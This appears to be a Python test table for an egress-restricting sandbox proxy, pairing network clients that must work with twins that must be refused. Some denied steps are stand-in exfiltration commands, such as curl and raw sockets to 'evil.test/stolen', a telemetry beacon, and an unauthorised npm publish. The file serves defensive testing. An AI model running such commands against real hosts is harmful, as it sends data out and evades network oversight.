"""The clients that must work unchanged in a compartment, each with the twin of it that must be refused.

A command is run as it stands, with the workspace as its folder. ``{python}``, ``{clients}``, ``{evil}`` (an
address nobody allowed) are replaced in it.
"""

from __future__ import annotations

from dataclasses import dataclass

_API = "https://api.forge.test"
_GRPC = "grpc.forge.test:443"
_KNOWN = '"authenticated": true'
# What a refused HTTP request reads: a status, the decision as a header, and the reason with a way on.
_REFUSED = ("403", "rule-not-allowed", '"hint"')
_PROXIED = ("curl", "-sS", "-x", "http://127.0.0.1:3128")
_PIP = "{python} -m pip --disable-pip-version-check --no-cache-dir --retries 0"
_GIT = "git -c user.name=Agent -c user.email=agent@example.test"


@dataclass(frozen=True, slots=True, kw_only=True)
class Step:
    """``says``: texts that must stand in the output and errors; ``fails``: whether the exit code is not 0.

    ``unseen``: what the upstream would have received, had a refused step come through.
    """

    command: tuple[str, ...]
    says: tuple[str, ...]
    fails: bool = False
    unseen: str = ""


@dataclass(frozen=True, slots=True, kw_only=True)
class Row:
    """One client. ``server``: which upstream it speaks to (its credential must reach that one only)."""

    name: str
    server: str
    allowed: Step
    denied: Step


def _python(script: str, *arguments: str) -> tuple[str, ...]:
    return ("{python}", "{clients}/" + script, *arguments)


def _shell(script: str) -> tuple[str, ...]:
    return ("sh", "-ec", script)


def _curl(version: str) -> Row:
    curl = ("curl", "-sS", version, "-w", "\nHTTP/%{http_version} %{http_code} %header{x-leasehold-decision}")
    shown = "HTTP/" + version.removeprefix("--http")
    return Row(
        name=f"curl {shown}",
        server="api",
        allowed=Step(command=(*curl, f"{_API}/repos/acme/web/issues"), says=(shown, " 200", _KNOWN)),
        denied=Step(command=(*curl, f"{_API}/repos/other/fork/issues"), says=(shown, *_REFUSED), unseen="other/fork"),
    )


def _simple(name: str, command: tuple[str, ...], *, denied: tuple[str, ...], says: tuple[str, ...], unseen: str) -> Row:
    """A client called with a method and a URL, and its twin with others."""
    return Row(
        name=name,
        server="api",
        allowed=Step(command=(*command, "GET", f"{_API}/v1/me"), says=("HTTP 200", _KNOWN)),
        denied=Step(command=(*command, *denied), says=says, unseen=unseen),
    )


TABLE: tuple[Row, ...] = (
    _curl("--http1.1"),
    _curl("--http2"),
    Row(
        name="curl by the explicit proxy",
        server="api",
        allowed=Step(command=(*_PROXIED, f"{_API}/v1/me"), says=(_KNOWN,)),
        denied=Step(
            command=(*_PROXIED, "https://evil.test/stolen"),
            says=("CONNECT tunnel failed, response 403",),
            fails=True,
            unseen="/stolen",
        ),
    ),
    Row(
        name="wget",
        server="api",
        allowed=Step(command=("wget", "-q", "-O", "-", f"{_API}/v1/me"), says=(_KNOWN,)),
        denied=Step(
            command=("wget", "-S", "--content-on-error", "-O", "-", "--method=PATCH", f"{_API}/v1/me"),
            says=_REFUSED,
            fails=True,
            unseen="PATCH",
        ),
    ),
    Row(
        name="git clone",
        server="git",
        allowed=Step(
            command=_shell("git clone -q https://git.forge.test/acme/web.git && cat web/README"),
            says=("This is acme/web.",),
        ),
        denied=Step(
            command=("git", "clone", "https://git.forge.test/other/fork.git"),
            says=("error: 403",),
            fails=True,
            unseen="other/fork",
        ),
    ),
    Row(
        name="git push",
        server="git",
        allowed=Step(
            command=_shell(
                "git clone -q https://git.forge.test/acme/web.git && cd web"
                f" && {_GIT} commit -q --allow-empty -m More"
                " && git push -q origin HEAD:refs/heads/agent-$(date +%s%N) && echo arrived"
            ),
            says=("arrived",),
        ),
        denied=Step(
            command=_shell(
                "git clone -q https://git.forge.test/acme/docs.git && echo cloned && cd docs"
                f" && {_GIT} commit -q --allow-empty -m More && git push origin HEAD:refs/heads/agent"
            ),
            says=("cloned", "error: 403"),
            fails=True,
            unseen="git-receive-pack",
        ),
    ),
    Row(
        name="pip",
        server="pypi",
        allowed=Step(
            command=_shell(
                f"{_PIP} install -q --target site --index-url https://pypi.forge.test/simple/ acme-widget"
                " && PYTHONPATH=site {python} -c 'import acme_widget; print(acme_widget.hello())'"
            ),
            says=("the private widget works",),
        ),
        denied=Step(
            command=_shell(f"{_PIP} download -vv --index-url https://files.forge.test/simple/ acme-widget"),
            says=("Name or service not known",),
            fails=True,
            unseen="/simple/",
        ),
    ),
    Row(
        name="npm",
        server="npm",
        allowed=Step(
            command=_shell(
                "npm install --silent --registry=https://npm.forge.test/ @acme/widget"
                " && node -e \"console.log(require('@acme/widget')())\""
            ),
            says=("the private npm widget works",),
        ),
        denied=Step(
            command=_shell(
                'echo \'{"name": "@acme/stolen", "version": "1.0.0"}\' > package.json'
                " && npm publish --registry=https://npm.forge.test/ --//npm.forge.test/:_authToken=mine"
            ),
            says=("E403",),
            fails=True,
            unseen="PUT",
        ),
    ),
    _simple(
        "requests",
        _python("http_requests.py"),
        denied=("GET", f"{_API}/user/keys"),
        says=("HTTP 403", *_REFUSED),
        unseen="/user",
    ),
    _simple(
        "httpx HTTP/1.1",
        _python("http_httpx.py", "1.1"),
        denied=("PATCH", f"{_API}/v1/me"),
        says=("HTTP 403", "HTTP/1.1", *_REFUSED),
        unseen="PATCH",
    ),
    _simple(
        "httpx HTTP/2",
        _python("http_httpx.py", "2"),
        denied=("GET", f"{_API}/private"),
        says=("HTTP 403", "HTTP/2", *_REFUSED),
        unseen="/private",
    ),
    _simple(
        "aiohttp",
        _python("http_aiohttp.py"),
        denied=("GET", "https://telemetry.test/beacon"),
        says=("Name or service not known",),
        unseen="beacon",
    ),
    _simple(
        "node fetch",
        ("node", "{clients}/fetch.mjs"),
        denied=("GET", f"{_API}/repos/other/fork"),
        says=("HTTP 403", *_REFUSED),
        unseen="other/fork",
    ),
    _simple(
        "node https",
        ("node", "{clients}/https.mjs"),
        denied=("GET", "https://api.forge.test:8443/v1/me"),
        says=("FAILED ECONNREFUSED",),
        unseen="/v1/me",
    ),
    _simple(
        "java HttpClient",
        ("java", "-Xshare:auto", "-XX:TieredStopAtLevel=1", "{clients}/Client.java"),
        denied=("DELETE", f"{_API}/user"),
        says=("HTTP 403", *_REFUSED),
        unseen="DELETE",
    ),
    Row(
        name="grpcio unary",
        server="grpc",
        allowed=Step(command=_python("grpc_call.py", _GRPC, "Unary"), says=("REPLY echo: hello",)),
        denied=Step(
            command=_python("grpc_call.py", _GRPC, "Admin"),
            says=("GRPC PERMISSION_DENIED",),
            unseen="Admin",
        ),
    ),
    Row(
        name="grpcio stream",
        server="grpc",
        allowed=Step(
            command=_python("grpc_call.py", _GRPC, "Stream", "stream"),
            says=("REPLY 0: hello", "REPLY 4: hello"),
        ),
        denied=Step(
            command=_python("grpc_call.py", _GRPC, "Missing", "stream"),
            says=("GRPC PERMISSION_DENIED",),
            unseen="Missing",
        ),
    ),
    Row(
        name="websocket",
        server="api",
        allowed=Step(
            command=_python("websocket_echo.py", "wss://api.forge.test/ws"),
            says=("ECHO hello over a socket",),
        ),
        denied=Step(
            command=_python("websocket_echo.py", "wss://api.forge.test/v1/ws"),
            says=("HTTP 403",),
            unseen="/v1/ws",
        ),
    ),
    Row(
        name="server-sent events",
        server="api",
        allowed=Step(
            command=_python("sse.py", f"{_API}/stream?events=5&interval_ms=60"),
            says=("HTTP 200", "data: event 0", "data: event 4"),
        ),
        denied=Step(
            command=_python("sse.py", f"{_API}/streams"),
            says=("HTTP 403", "rule-not-allowed"),
            unseen="/streams",
        ),
    ),
    Row(
        name="raw sockets, no proxy variables",
        server="api",
        allowed=Step(
            command=_python("raw.py", "api.forge.test", "443", "api.forge.test", "/v1/me"),
            says=("HTTP/1.1 200", _KNOWN),
        ),
        denied=Step(
            command=_python("raw.py", "{evil}", "443", "evil.test", "/stolen"),
            says=("FAILED",),
            unseen="/stolen",
        ),
    ),
)
